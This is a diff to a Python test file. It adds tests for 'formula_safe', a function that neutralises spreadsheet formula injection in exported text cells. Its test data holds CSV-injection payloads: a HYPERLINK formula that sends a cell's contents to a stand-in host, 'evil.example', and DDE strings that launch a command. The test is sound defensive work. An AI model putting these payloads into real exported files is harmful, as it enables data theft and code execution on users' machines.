@@ -1,4 +1,5 @@
-"""model.display.money: the one function that writes money (CLI, pages, report)."""
+"""model.display: the one function that writes money (CLI, pages, report), and formula-safe
+text cells."""
 
 from __future__ import annotations
 
@@ -8,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from model.display import money
+from model.display import formula_safe, money
 
 
 @pytest.mark.parametrize(
@@ -29,3 +30,25 @@ def test_money(value, kwargs, expected: str) -> None:
 def test_money_never_prints_a_non_number(value: float) -> None:
     text = money(value, small=True)
     assert "nan" not in text.lower() and "inf" not in text.lower()
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\tgpt-4o", "'\tgpt-4o"),
+        ("\rgpt-4o", "'\rgpt-4o"),
+        ("gpt-4o", "gpt-4o"),
+        ("claude-sonnet-4-5 = best", "claude-sonnet-4-5 = best"),  # only a leading sign counts
+        ("", ""),
+    ],
+)
+def test_formula_starts_get_a_leading_quote(text: str, shown: str) -> None:
+    # OWASP CSV injection: a leading ' makes a spreadsheet show the cell as text.
+    assert formula_safe(text) == shown
